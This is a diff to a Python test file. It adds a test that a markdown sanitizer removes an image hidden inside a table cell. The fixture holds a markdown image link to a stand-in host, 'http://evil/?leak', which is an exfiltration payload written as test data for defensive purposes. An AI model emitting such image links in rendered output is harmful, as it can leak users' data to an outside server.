@@ -134,3 +134,11 @@ def test_it_is_saved_for_its_owner_and_overwrites_nothing(tmp_path: Path) -> Non
     assert file.read_text() == "one?"
     with pytest.raises(ExportError, match="cannot be written"):
         save("x", file / "below/c.md")
+
+
+def test_a_picture_does_not_hide_in_a_table() -> None:
+    text = "| a | b |\n|---|---|\n| `x | ![p](http://evil/?leak) ` |\n"
+    parser = MarkdownIt("commonmark").enable("table")
+    assert any(c.type == "image" for token in parser.parse(text) for c in token.children or ())
+    shown = parser.parse(harmless(text))
+    assert not [c for token in shown for c in token.children or () if c.type == "image"]
